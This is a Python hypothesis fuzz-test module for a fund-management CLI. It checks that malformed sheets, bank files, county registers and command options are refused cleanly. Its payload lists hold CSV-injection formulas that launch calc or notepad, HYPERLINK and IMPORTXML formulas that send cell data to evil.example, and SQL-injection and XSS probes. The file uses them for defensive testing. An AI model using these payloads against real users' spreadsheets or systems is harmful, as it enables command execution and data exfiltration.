"""Bad input never gets in: fuzzing every way data enters ``fund``.

What is fuzzed (hypothesis), through the core parsers and through the CLI as typed:

* the application sheet: CSV built from valid rows with cells replaced by junk
  (formulas, CSV-injection strings such as ``=cmd|' /C calc'!A0``, control and invisible
  characters, full-width digits, huge cells), headers dropped, doubled or renamed, a
  title row, any delimiter, seven encodings, truncated or spliced bytes, a wrong suffix;
  and XLSX workbooks made with openpyxl holding formula cells (never calculated, so
  without a cached value), formula text in text cells, numbers, dates, booleans,
  truncated workbooks;
* the bank's repayment file, the same way, with any facility, ref, amount and date;
* the county register: any header, any code, name, province, prefecture, category, any
  encoding, truncated;
* every amount and date option of the commands that take one (donations, repay,
  local support, claims, recoveries, approve, reject/return/cancel, disburse and its
  rate, write-off, ledger reverse, restructure, close-day, trial balance, capacity,
  policy show and set, working funds, apply, the import's --date, the statement's
  --from/--to), with their id arguments and text options.

Every run must end with exit code 0 or 1 (2 only for click's own usage errors, which
say ``Usage:``, or ``用法：`` in Chinese), no traceback, no "internal error" or
database-error line (those mean an exception the command did not expect, not a
reason), a non-empty reason on stderr when refused, and for an all-or-nothing command
(every single command, ``--dry-run``, ``--all-or-nothing``, the register) the database
unchanged (``snapshot``) when refused.
An import that takes the valid rows and reports the bad ones writes exactly the rows it
reports as taken.

Exports must neutralise a leading ``=``, ``+``, ``-`` or ``@`` (CSV injection): the
application list and show commands (JSON and human output), and the statement exports
(``fund statement fund|county … --format csv|xlsx``) when present.

Known bugs found by this fuzzing are pinned by the ``test_known_*`` tests (and the
list/show export test), marked ``xfail(strict=True)`` with the reason, on a world the
fuzzing never touched: when one is fixed its test passes, strict xfail reports that, and
the marker should go. The random strategies steer clear of these few inputs (noted
where they do) so that they keep looking for new problems.

Runtime: about 10 s per backend by default. ``FUNDCORE_SOAK=1`` runs ten times the
examples. PostgreSQL runs only when ``FUNDCORE_TEST_PG`` is set.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import tempfile
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from sqlalchemy import Engine, func, select

from cli.main import fund as fund_group
from fundcore.domain.counties import valid_code
from fundcore.domain.dates import parse_date
from fundcore.domain.errors import InputError
from fundcore.domain.money import MAX_FEN, format_fen, format_plain, parse_yuan
from fundcore.intake import bankfile, register, sheet
from fundcore.intake.application import parse_application
from fundcore.intake.sheet import APPLICATION_COLUMNS, neutralise_formula
from fundcore.messages import render
from fundcore.services import applications, decisions, local_support
from fundcore.services.disbursement import parse_rate
from fundcore.store.models import Application, Repayment
from fundcore.store.uow import UnitOfWork
from tests.conftest import Fund, init_db, pg_schema_url, snapshot
from tests.factories import SAMPLE_COUNTIES, application_row, disbursed, setup_fund

SOAK = bool(os.environ.get("FUNDCORE_SOAK"))
SCALE = 10 if SOAK else 1
ON = date(2019, 7, 1)
KEYS = [c.key for c in APPLICATION_COLUMNS]

CLI_SETTINGS = settings(
    max_examples=20 * SCALE,
    deadline=None,
    suppress_health_check=list(HealthCheck),
    database=None,
)
PARSER_SETTINGS = settings(max_examples=150 * SCALE, deadline=None, database=None)


# --- what bad input looks like ---------------------------------------------------------------

INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    "\t=1+1",
    "\r=1+1",
    "=",
    "+",
    "-",
    "@",
]
ODD = [
    "",
    " ",
    "\x00",
    "\x00140224",
    "\ufeff140224",
    "140224.0",
    "\u200b",
    "\u202e",
    "；；",
    "\n",
    '"',
    "'",
    "\\",
    "NULL",
    "None",
    "%s%s%s",
    "{0}",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "😀" * 20,
    "是",
    "否",
    "１２３",
    "5万万",
    "NaN",
    "inf",
    "1e9",
    "-1",
    "0",
    "1" * 30,
    "ﷺ" * 5,  # one character, eighteen after NFKC
    "x" * 3_000,  # over the 2,000-character cell limit
]
HUGE = "y" * 140_000  # over csv's 131,072-character field limit (known register bug)
junk = st.one_of(
    st.sampled_from(INJECTIONS + ODD),
    st.text(max_size=40),
    st.text(st.characters(codec="utf-8"), min_size=60, max_size=400),
)

AMOUNTS = [
    "25000",
    "25,000.50",
    "2.5万",
    "3亿",
    "100元",
    "¥1",
    "￥１，０００",
    "RMB 5",
    "0",
    "0.00",
    "0.001",
    "1.005",
    "-1",
    "−1",
    "负1",
    "(100)",
    "1e5",
    ".5",
    "5.",
    "1,00",
    "007",
    "nan",
    "Infinity",
    "9" * 17,
    "1000000000000.01",
    "99999999999999999999999999",
    "1万亿",
    "5²",
    "①",
    "٣٠٠",
    "30,000.00 ",
    " ",
    "=1+1",
]
amounts = st.one_of(
    st.sampled_from(AMOUNTS),
    st.integers(-(10**18), 10**18).map(str),
    st.decimals(allow_nan=True, allow_infinity=True, places=3).map(str),
    st.text(alphabet="0123456789,.万亿¥￥-−负()eE+ 元RMB１２３．，", max_size=20),
    st.text(max_size=12),
)
DATES = [
    "2019-06-31",
    "2019-02-29",
    "2020-02-29",
    "0000-01-01",
    "0001-01-01",
    "9999-12-31",
    "2019/06/01",
    "20190601",
    "2019-6-1",
    " 2019-07-15 ",
    "２０１９-０７-１５",
    "2019-07-15T00:00",
    "2019-07-15\n",
    "",
    "today",
    "-2019-07-15",
    "+2019-07-15",
]
dates = st.one_of(
    st.sampled_from(DATES),
    st.dates(date(1900, 1, 1), date(2100, 12, 31)).map(date.isoformat),
    st.text(alphabet="0123456789-/ T:", max_size=14),
    st.text(max_size=12),
)
texts = st.one_of(st.sampled_from(INJECTIONS + ODD[:-1]), st.text(max_size=80))
refs = st.one_of(
    st.sampled_from(INJECTIONS[:8] + ["R-001", "流水-１", "x" * 64, "x" * 65, "\u200bR", "", " "]),
    st.text(max_size=80),
)


# --- running and judging -------------------------------------------------------------------


def _leak_markers() -> list[str]:
    """The fixed start of each message that means an unexpected exception, zh and en."""
    marks = []
    for code in ("internal", "db.conflict", "db.unreachable"):
        for lang in ("zh", "en"):
            text = render(code, {"detail": "\x00"}, lang)
            marks.append(text.split("\x00")[0])
    return marks


LEAKS = _leak_markers()


def judge(result: Result, *, usage_ok: bool = True) -> None:
    """Exit 0 or 1 (2 for click's usage errors), no traceback, a real reason when refused."""
    output = result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert "Traceback" not in output, output
    allowed = (0, 1, 2) if usage_ok else (0, 1)
    if currently_in_test_context():
        event(f"exit {result.exit_code}")
    assert result.exit_code in allowed, (result.exit_code, output)
    if result.exit_code == 2:
        assert "Usage:" in result.stderr or "用法：" in result.stderr, result.stderr
    if result.exit_code == 1:
        assert result.stderr.strip(), "refused without a reason"
        for mark in LEAKS:
            assert mark not in result.stderr, result.stderr


@dataclass
class World:
    """A fund with one facility in every state the commands act on."""

    url: str
    engine: Engine
    fund: Fund
    loan: int  # current (later defaulted) interest-free loan
    guarantee: int  # defaulted guarantee: a claim may be paid
    claimed: int  # guarantee whose claim is paid: recoveries may be recorded
    grant: int
    approved: int  # approved loan awaiting its 1:1 matching
    ready: int  # approved loan with its counter-guarantee: may be paid out
    submitted: int  # application awaiting a decision
    files: Path  # where statements and sheets of single commands go


def _submit(engine: Engine, n: int, support: str = "1:1配资") -> int:
    row = application_row(random.Random(n), n, "140224", ON)
    row.update(amount="30000", term_months="24", local_support=support)
    app, errors = parse_application(row)
    assert not errors, errors
    with UnitOfWork(engine) as uow:
        report = applications.submit(uow.conn, "lq", [(None, app)], ON)
        assert not report.problems, report.problems
        uow.commit()
    return report.taken[0][2]


def _build_world(url: str, files: Path) -> World:
    engine = init_db(url)
    setup_fund(engine)
    loan = disbursed(engine, 1)
    guarantee = disbursed(engine, 2, kind="guarantee", yuan=50_000, support="反担保")
    claimed = disbursed(engine, 3, kind="guarantee", yuan=50_000, support="反担保")
    grant = disbursed(engine, 4, kind="grant", yuan=5_000)
    approved, ready = _submit(engine, 5), _submit(engine, 7, "反担保")
    with UnitOfWork(engine) as uow:
        decisions.approve(uow.conn, "fin1", approved, ON)
        decisions.approve(uow.conn, "fin1", ready, ON)
        support = local_support.SupportIn(
            ready, "counter-guarantee", 1_500_000, ON, "CG-ready", "灵丘县人民政府"
        )
        local_support.record(uow.conn, "fin1", support)
        uow.commit()
    submitted = _submit(engine, 6)
    fund = Fund(url)
    for line in (
        "operators add aud --role auditor --as root",
        "close-day --through 2019-12-31 --as fin1",
        f"claims pay {claimed} --amount 20000 --date 2020-01-10 --as fin1",
    ):
        result = fund(*line.split())
        assert result.exit_code == 0, (line, result.output)
    return World(
        url, engine, fund, loan, guarantee, claimed, grant, approved, ready, submitted, files
    )


def _worlds(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    files = tmp_path_factory.mktemp("fuzz")
    if backend == "sqlite":
        w = _build_world(f"sqlite:///{files / 'fund.db'}", files)
        yield w
        w.engine.dispose()
    else:
        with pg_schema_url() as url:
            w = _build_world(url, files)
            yield w
            w.engine.dispose()


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def world(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator:
    """The world the fuzzing works on (and changes as it goes)."""
    yield from _worlds(request.param, tmp_path_factory)


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def pristine(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator:
    """A world no fuzzing touched, for the known-bug tests: their strict xfail must not
    turn into a pass because a fuzzed command changed the policy or a facility's state."""
    yield from _worlds(request.param, tmp_path_factory)


def _count(engine: Engine, model: Any) -> int:
    with engine.connect() as conn:
        return int(conn.scalar(select(func.count()).select_from(model.__table__)) or 0)


def _in_file(content: bytes, name: str, run: Callable[[Path], None]) -> None:
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / name
        path.write_bytes(content)
        run(path)


# --- application sheets ------------------------------------------------------------------------


def _mangle_bytes(draw: st.DrawFn, data: bytes) -> bytes:
    """Sometimes truncate, splice in random bytes, or replace the lot."""
    how = draw(st.sampled_from(["keep"] * 6 + ["truncate", "splice", "replace"]))
    if how == "truncate" and data:
        return data[: draw(st.integers(0, len(data) - 1))]
    if how == "splice":
        at = draw(st.integers(0, len(data)))
        return data[:at] + draw(st.binary(min_size=1, max_size=64)) + data[at:]
    if how == "replace":
        return draw(st.binary(max_size=400))
    return data


@st.composite
def application_rows(draw: st.DrawFn) -> tuple[list[str], list[list[object]]]:
    """Headers and rows: valid rows, then junk in some cells and some headers."""
    rng = random.Random(draw(st.integers(0, 2**32)))
    base = draw(st.integers(0, 10**6))
    instruments = st.sampled_from(["免息借款", "担保贷款", "小额资助"])
    rows = [
        application_row(rng, base + i, rng.choice(SAMPLE_COUNTIES), ON, draw(instruments))
        for i in range(draw(st.integers(1, 5)))
    ]
    lang = draw(st.sampled_from(["zh", "en"]))
    headers = [c.zh if lang == "zh" else c.en for c in APPLICATION_COLUMNS]
    table: list[list[object]] = [[r[k] for k in KEYS] for r in rows]
    for _ in range(draw(st.integers(0, 8))):
        cell = draw(st.one_of(junk, st.sampled_from([HUGE]))) if draw(st.booleans()) else None
        table[draw(st.integers(0, len(table) - 1))][draw(st.integers(0, len(KEYS) - 1))] = (
            cell if cell is not None else draw(junk)
        )
    edit = draw(st.sampled_from(["none"] * 5 + ["drop", "double", "rename", "title", "blank"]))
    col = draw(st.integers(0, len(KEYS) - 1))
    if edit == "drop":
        headers.pop(col)
        table = [r[:col] + r[col + 1 :] for r in table]
    elif edit == "double":
        headers.append(headers[col])
        table = [r + [r[col]] for r in table]
    elif edit == "rename":
        headers[col] = draw(junk)
    elif edit == "title":
        table.insert(0, headers)
        headers = ["灵丘县青年创业项目申请汇总表"]
    elif edit == "blank":
        table.insert(draw(st.integers(0, len(table))), [""] * len(headers))
    return headers, table


@st.composite
def csv_sheets(draw: st.DrawFn) -> tuple[bytes, str]:
    headers, table = draw(application_rows())
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=draw(st.sampled_from([",", ",", ";", "\t"])))
    writer.writerow(headers)
    writer.writerows(table)
    encoding = draw(
        st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "big5", "shift_jis", "latin-1"])
    )
    data = _mangle_bytes(draw, buf.getvalue().encode(encoding, errors="replace"))
    suffix = draw(st.sampled_from([".csv"] * 6 + [".txt", ".CSV", ".xlsx", ".xls", ".json", ""]))
    return data, f"sheet{suffix}"


_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
xlsx_cells = st.one_of(
    st.sampled_from(INJECTIONS[:8] + ["=SUM(A1:A3)", "=1/0", "=NOW()", '="140224"']),
    st.integers(-(10**20), 10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.datetimes(),
    st.booleans(),
    st.none(),
    junk.map(lambda s: _ILLEGAL_XML.sub("", s)[:32_000]),
)


@st.composite
def xlsx_sheets(draw: st.DrawFn) -> tuple[bytes, str]:
    """A workbook: formula cells (no cached value), formula text typed as text, numbers."""
    from openpyxl import Workbook

    headers, table = draw(application_rows())
    book = Workbook()
    ws = book.active
    ws.append([_ILLEGAL_XML.sub("", h)[:32_000] for h in headers])
    for row in table:
        ws.append([_ILLEGAL_XML.sub("", str(v))[:32_000] for v in row])
    for _ in range(draw(st.integers(0, 10))):
        cell = ws.cell(row=draw(st.integers(1, len(table) + 1)), column=draw(st.integers(1, 16)))
        cell.value = draw(xlsx_cells)
        if isinstance(cell.value, str) and cell.value.startswith("=") and draw(st.booleans()):
            cell.data_type = "s"  # formula text in a text cell: Excel shows it, never runs it
    buf = io.BytesIO()
    book.save(buf)
    data = _mangle_bytes(draw, buf.getvalue())
    return data, draw(st.sampled_from(["sheet.xlsx", "sheet.xlsx", "sheet.xlsm", "sheet.csv"]))


def _import_applications(w: World, path: Path, mode: str) -> None:
    flags = {"plain": [], "all-or-nothing": ["--all-or-nothing"], "dry-run": ["--dry-run"]}[mode]
    before = snapshot(w.engine)
    count = _count(w.engine, Application)
    args = ["--json", "applications", "import", str(path), "--date", "2019-07-01"]
    result = w.fund(*args, "--as", "fin1", *flags)
    judge(result, usage_ok=False)
    doc = json.loads(result.stdout) if result.stdout.strip() else {}
    if mode == "dry-run" or (result.exit_code == 1 and mode == "all-or-nothing"):
        assert snapshot(w.engine) == before, "refused or dry run, yet the database changed"
    elif "taken" in doc:  # the import ran: exactly what it reports as taken is written
        assert _count(w.engine, Application) - count == len(doc["taken"]), doc
    else:  # refused as a whole (unreadable file...): nothing written
        assert result.exit_code == 1 and snapshot(w.engine) == before


modes = st.sampled_from(["plain", "all-or-nothing", "dry-run"])


@CLI_SETTINGS
@given(sheet_file=csv_sheets(), mode=modes)
def test_application_csv_fuzz(world: World, sheet_file: tuple[bytes, str], mode: str) -> None:
    content, name = sheet_file
    _in_file(content, name, lambda path: _import_applications(world, path, mode))


@CLI_SETTINGS
@given(sheet_file=xlsx_sheets(), mode=modes)
def test_application_xlsx_fuzz(world: World, sheet_file: tuple[bytes, str], mode: str) -> None:
    content, name = sheet_file
    _in_file(content, name, lambda path: _import_applications(world, path, mode))


def test_xlsx_formulas_never_become_values(world: World, tmp_path: Path) -> None:
    """A formula cell without a cached value, or formula text in a text cell, reads as
    empty: a required cell so filled is refused with its line and column, never taken."""
    from openpyxl import Workbook

    row = application_row(random.Random(7), 700_001, "140224", ON)
    book = Workbook()
    ws = book.active
    ws.append([c.zh for c in APPLICATION_COLUMNS])
    ws.append([row[k] for k in KEYS])
    ws["B2"] = "=cmd|' /C calc'!A0"  # name: a formula
    ws["K2"] = "=25000*2"  # amount: a formula never calculated
    ws.append([row[k] for k in KEYS])
    ws["A3"] = '=HYPERLINK("http://evil","x")'
    ws["A3"].data_type = "s"  # ref: formula text typed into a text cell
    book.save(tmp_path / "formulas.xlsx")
    before = snapshot(world.engine)
    result = world.fund(
        "--json", "applications", "import", str(tmp_path / "formulas.xlsx"),
        "--date", "2019-07-01", "--as", "fin1",
    )  # fmt: skip
    judge(result, usage_ok=False)
    assert result.exit_code == 1
    errors = {(e["line"], e["column"], e["code"]) for e in json.loads(result.stdout)["errors"]}
    assert {(2, "name", "intake.required"), (2, "amount", "intake.required")} <= errors
    assert (3, "ref", "intake.required") in errors
    assert snapshot(world.engine) == before


# --- the bank's repayment file ------------------------------------------------------------------


@st.composite
def repayment_files(draw: st.DrawFn, w: World) -> tuple[bytes, str]:
    headers = draw(
        st.sampled_from(
            [
                ["业务编号", "流水号", "金额", "日期"],
                ["facility", "ref", "amount", "date"],
                ["借款编号", "交易流水号", "还款金额", "交易日期"],
                ["业务编号", "流水号", "金额"],
                ["业务编号", "业务编号", "流水号", "金额", "日期"],
            ]
        )
    )
    facility = st.one_of(
        st.sampled_from([w.loan, w.guarantee, w.claimed, w.grant, w.approved]).map(str),
        st.integers(-5, 2**70).map(str),
        junk,
    )
    rows = [
        [
            draw(facility),
            draw(refs),
            draw(amounts),
            draw(st.one_of(dates, st.dates(date(2020, 1, 1), date(2021, 6, 30)).map(str))),
        ]
        for _ in range(draw(st.integers(1, 6)))
    ]
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(headers)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16"]))
    data = _mangle_bytes(draw, buf.getvalue().encode(encoding, errors="replace"))
    return data, draw(st.sampled_from(["bank.csv", "bank.csv", "bank.txt", "bank.xlsx"]))


@CLI_SETTINGS
@given(data=st.data(), mode=modes)
def test_repayment_file_fuzz(world: World, data: st.DataObject, mode: str) -> None:
    content, name = data.draw(repayment_files(world))

    def run(path: Path) -> None:
        before = snapshot(world.engine)
        count = _count(world.engine, Repayment)
        flags = {"plain": [], "all-or-nothing": ["--all-or-nothing"], "dry-run": ["--dry-run"]}
        args = ["--json", "repayments", "import", str(path), "--as", "fin1", *flags[mode]]
        result = world.fund(*args)
        judge(result, usage_ok=False)
        doc = json.loads(result.stdout) if result.stdout.strip() else {}
        refused = mode == "all-or-nothing" and result.exit_code == 1
        if mode == "dry-run" or refused or "applied" not in doc:
            assert snapshot(world.engine) == before
        else:
            assert _count(world.engine, Repayment) - count == doc["applied"], doc

    _in_file(content, name, run)


# --- the county register --------------------------------------------------------------------------


def _fits(limit: int) -> Callable[[str], bool]:
    """Known bug (test_known_register_lengths): province over 40, prefecture over 80."""
    return lambda s: len(unicodedata.normalize("NFKC", s).strip()) <= limit


@st.composite
def register_files(draw: st.DrawFn) -> tuple[bytes, str]:
    names = {
        "code": ["code", "县代码", "代码", "区划代码", "CODE", ""],
        "name": ["name", "县名", "名称", "县"],
        "province": ["province", "省份", "省"],
        "prefecture": ["prefecture", "地市", "市", None],
        "category": ["category", "类别", "类型"],
    }
    picked = [draw(st.sampled_from(v)) for v in names.values()]
    header = [h for h in picked if h is not None]
    order = draw(st.permutations(range(len(header))))
    header = [header[i] for i in order]
    codes = st.one_of(
        st.sampled_from(SAMPLE_COUNTIES + ["110000", "990101", "14022", "1402240", "140224.0"]),
        st.from_regex(r"[1-6][0-9]{5}", fullmatch=True),
        junk,
    )
    cell = {
        "code": codes,
        "name": st.one_of(st.sampled_from(["灵丘县", "兰考县"] + INJECTIONS[:8]), texts),
        "province": st.one_of(st.sampled_from(["山西省"] + INJECTIONS[:4]), texts).filter(
            _fits(40)
        ),
        "prefecture": st.one_of(st.sampled_from(["大同市", ""]), texts).filter(_fits(80)),
        "category": st.one_of(
            st.sampled_from(["national", "国家级贫困县", "省级", "provincial", "x"]), texts
        ),
    }
    keys = [k for k, h in zip(names, picked, strict=True) if h is not None]
    keys = [keys[i] for i in order]
    rows = [[draw(cell[k]) for k in keys] for _ in range(draw(st.integers(0, 5)))]
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(header)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "big5"]))
    return _mangle_bytes(draw, buf.getvalue().encode(encoding, errors="replace")), "register.csv"


@CLI_SETTINGS
@given(register_file=register_files())
def test_register_fuzz(world: World, register_file: tuple[bytes, str]) -> None:
    content, name = register_file
    assume(not _hits_known_register_bug(content))

    def run(path: Path) -> None:
        before = snapshot(world.engine)
        result = world.fund("counties", "import", str(path), "--as", "root")
        judge(result, usage_ok=False)
        if result.exit_code == 1:
            assert snapshot(world.engine) == before, "a refused register changed the database"

    _in_file(content, name, run)


# --- every amount and date option ----------------------------------------------------------------


def _opt(draw: st.DrawFn, flag: str, values: st.SearchStrategy[str]) -> list[str]:
    return [flag, draw(values)] if draw(st.booleans()) else []


ids = st.one_of(st.integers(-3, 20).map(str), st.integers(0, 2**70).map(str), junk)


def _command(draw: st.DrawFn, w: World) -> list[str]:
    facility = st.one_of(
        st.sampled_from([w.loan, w.guarantee, w.claimed, w.grant, w.approved, w.ready]).map(str),
        ids,
    )
    # close-day only on dates before any pay-out: a far --through closes every month up
    # to it (thousands of closes for 9999-12-31) and shuts the books for all that follow
    through = st.one_of(
        st.sampled_from(DATES[6:]),
        st.dates(date(2000, 1, 1), date(2019, 6, 9)).map(str),
        st.text(max_size=12),
    )
    which = draw(
        st.sampled_from(
            [
                "donation", "repay", "support", "claim", "recovery", "approve", "disburse",
                "write-off", "close-day", "trial-balance", "capacity", "policy",
                "working-funds", "apply", "reject", "reverse", "restructure", "statement",
                "policy-set", "import-date",
            ]
        )
    )  # fmt: skip
    a, d = draw(amounts), draw(dates)
    if which == "donation":
        return [
            "donations", "record", "--amount", a, "--donor", draw(texts), "--date", d,
            *_opt(draw, "--ref", refs), *_opt(draw, "--restricted", texts), "--as", "fin1",
        ]  # fmt: skip
    if which == "repay":
        return ["repay", draw(facility), "--amount", a, "--date", d, "--ref", draw(refs),
                "--as", "fin1"]  # fmt: skip
    if which == "support":
        kind = draw(st.sampled_from(["matching", "counter-guarantee", "cash"]))
        return [
            "local-support", "record", draw(facility), "--kind", kind, "--amount", a,
            "--date", d, *_opt(draw, "--ref", refs), *_opt(draw, "--guarantor", texts),
            "--as", "fin1",
        ]  # fmt: skip
    if which == "claim":
        return ["claims", "pay", draw(facility), "--amount", a, "--date", d, "--as", "fin1"]
    if which == "recovery":
        source = draw(st.sampled_from(["borrower", "county", "bank"]))
        return ["recoveries", "record", draw(facility), "--amount", a, "--date", d,
                "--ref", draw(refs), "--from", source, "--as", "fin1"]  # fmt: skip
    if which == "approve":
        app = draw(st.one_of(st.just(str(w.submitted)), ids))
        return ["approve", app, "--date", d, *_opt(draw, "--note", texts), "--as", "fin2"]
    if which == "disburse":
        rate = st.one_of(st.sampled_from(["4.75", "4.75%", "24", "24.01", "0", "-1", "1e2"]), junk)
        return ["disburse", draw(facility), "--date", d, *_opt(draw, "--rate", rate),
                *_opt(draw, "--bank", texts), "--as", "fin2"]  # fmt: skip
    if which == "write-off":
        return ["write-off", draw(facility), "--date", d, "--reason", draw(texts), "--as", "fin1"]
    if which == "close-day":
        return ["close-day", "--through", draw(through), "--as", "fin1"]
    if which == "trial-balance":
        return ["ledger", "trial-balance", "--as-of", d, "--as", "aud"]
    if which == "capacity":
        return ["capacity", "--date", d, "--as", "aud"]
    if which == "policy":
        return [*draw(st.sampled_from([[], ["--json"]])), "policy", "show", "--on", d]
    if which == "working-funds":
        year = st.one_of(st.integers(1900, 2100).map(str), junk)
        return ["working-funds", "pay", "--year", draw(year), "--date", d, "--as", "fin1"]
    if which == "reject":
        action = draw(st.sampled_from(["reject", "return", "cancel"]))
        app = draw(st.one_of(st.sampled_from([str(w.submitted), str(w.approved)]), ids))
        return [action, app, "--date", d, "--reason", draw(texts), "--as", "fin1"]
    if which == "reverse":
        seq = draw(st.one_of(st.integers(-1, 30).map(str), ids))
        return ["ledger", "reverse", seq, "--date", d, "--reason", draw(texts), "--as", "fin1"]
    if which == "restructure":
        months = draw(st.one_of(st.integers(-1, 130).map(str), junk))
        return ["restructure", draw(facility), "--term", months, "--date", d,
                "--reason", draw(texts), *_opt(draw, "--pause", st.integers(-1, 30).map(str)),
                "--as", "fin1"]  # fmt: skip
    if which == "statement":  # from 0001-01-01: test_known_statement_from_year_one
        assume(d.strip() != "0001-01-01")
        # CSV only: once the register fuzzing has stored a county name with a control
        # character, XLSX fails every time (test_known_control_characters_in_register)
        out = w.files / f"statement-{draw(st.uuids()).hex}.csv"
        return ["statement", "fund", "--from", d, "--to", draw(dates), "--format", "csv",
                "--out", str(out), "--as", "aud"]  # fmt: skip
    if which == "policy-set":
        key = draw(
            st.sampled_from(
                ["amount_max_fen", "reserve_floor_fen", "two_approvals_above_fen",
                 "default_after_days", "leverage_cap_x", "provision_bp", "no_such_key"]
            )
        )  # fmt: skip
        value = a if key.endswith("_fen") else draw(st.one_of(st.integers(-5, 10**6).map(str),
                                                              junk))  # fmt: skip
        return ["policy", "set", f"{key}={value}", "--effective", d, "--as", "root"]
    if which == "import-date":
        return ["applications", "import", str(_one_row_sheet(w)), "--date", d, "--as", "fin1"]
    row = application_row(random.Random(draw(st.integers(0, 2**32))), 0, "140224", ON)
    return [
        "apply", "--ref", draw(st.one_of(refs, st.uuids().map(str))), "--name", row["name"],
        "--id-number", row["id_number"], "--phone", row["phone"], "--county", "140224",
        "--project-name", draw(texts), "--instrument", "grant", "--amount", a, "--date", d,
        "--as", "lq",
    ]  # fmt: skip


def _one_row_sheet(w: World) -> Path:
    path = w.files / "one-row.csv"
    if not path.exists():
        from tests.factories import write_csv

        write_csv(path, [application_row(random.Random(9), 9_999, "140224", ON)])
    return path


@CLI_SETTINGS
@given(data=st.data())
def test_amount_and_date_options_fuzz(world: World, data: st.DataObject) -> None:
    args = data.draw(st.composite(lambda draw: _command(draw, world))())
    before = snapshot(world.engine)
    result = world.fund(*args)
    judge(result)
    if result.exit_code != 0:
        assert snapshot(world.engine) == before, f"{args}: refused, yet the database changed"


# --- the core parsers, directly -----------------------------------------------------------------


@PARSER_SETTINGS
@given(content=st.one_of(st.binary(max_size=600), csv_sheets().map(lambda t: t[0])),
       suffix=st.sampled_from([".csv", ".txt", ".xlsx", ".xlsm", ".xls", ".pdf"]))  # fmt: skip
def test_read_sheet_refuses_only_with_a_reason(content: bytes, suffix: str) -> None:
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / f"f{suffix}"
        path.write_bytes(content)
        for read in (sheet.read_sheet, bankfile.read_repayments):
            try:
                read(path)
            except InputError as err:
                assert err.code in sheet.MESSAGES, err.code
                assert render(err.code, err.params, "zh") and render(err.code, err.params, "en")


@PARSER_SETTINGS
@given(content=st.one_of(st.binary(max_size=600), register_files().map(lambda t: t[0])))
def test_parse_register_refuses_only_with_a_reason(content: bytes) -> None:
    assume(not _hits_known_register_bug(content))
    try:
        rows = register.parse_register(content)
    except InputError as err:
        assert err.code.startswith("register."), err.code
        assert render(err.code, err.params, "en")
        return
    assert rows and all(valid_code(r.code) for r in rows)


@PARSER_SETTINGS
@given(text=st.one_of(amounts, st.text()))
def test_parse_yuan_is_an_amount_or_a_reason(text: str) -> None:
    try:
        fen = parse_yuan(text)
    except InputError as err:
        assert err.code.startswith("money."), err.code
        assert render(err.code, err.params, "zh")
        return
    assert isinstance(fen, int) and 0 < fen <= MAX_FEN


@PARSER_SETTINGS
@given(fen=st.integers(1, MAX_FEN))
def test_amounts_read_back_as_written(fen: int) -> None:
    assert parse_yuan(format_plain(fen)) == fen
    assert parse_yuan(format_fen(fen, "zh")) == fen


@PARSER_SETTINGS
@given(text=st.one_of(dates, st.text()))
def test_parse_date_is_a_date_or_a_reason(text: str) -> None:
    try:
        day = parse_date(text)
    except InputError as err:
        assert err.code in ("date.invalid", "date.out_of_range")
        return
    assert day.isoformat() == text.strip()


@PARSER_SETTINGS
@given(text=st.one_of(junk, st.from_regex(r"\d{1,3}(\.\d{1,3})?%?", fullmatch=True)))
def test_parse_rate_is_a_rate_or_a_reason(text: str) -> None:
    try:
        bp = parse_rate(text)
    except InputError as err:
        assert err.code == "disburse.bad_rate"
        return
    assert 0 <= bp <= 2_400


@PARSER_SETTINGS
@given(values=st.fixed_dictionaries({k: st.one_of(junk, st.just("")) for k in KEYS}))
def test_parse_application_never_raises(values: dict[str, str]) -> None:
    app, errors = parse_application(values)
    assert (app is None) == bool(errors)
    for e in errors:
        assert (
            e.column in KEYS and render(e.code, e.params, "zh") and render(e.code, e.params, "en")
        )


# --- exports neutralise formulas ---------------------------------------------------------------

_PLAIN_NEGATIVE = re.compile(r"-[0-9]+(?:,[0-9]{3})*(?:\.[0-9]+)?")


def _dangerous(text: str) -> bool:
    return neutralise_formula(text) != text


def _formula_rows(rng: random.Random, payloads: list[str]) -> list[dict[str, str]]:
    rows = []
    for i, payload in enumerate(payloads):
        row = application_row(rng, 800_000 + i, "140224", ON, "担保贷款")
        row.update(
            ref=f"{payload}{i}"[:64],
            name=payload[:50],
            project_name=f"{payload} 项目",
            bank=payload[:100],
            term_months="24",
            local_support="反担保",
        )
        rows.append(row)
    return rows


def _walk(doc: Any) -> Iterator[str]:
    if isinstance(doc, dict):
        for v in doc.values():
            yield from _walk(v)
    elif isinstance(doc, list):
        for v in doc:
            yield from _walk(v)
    elif isinstance(doc, str):
        yield doc


EXPORT_PAYLOADS = [
    '=HYPERLINK("http://evil","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


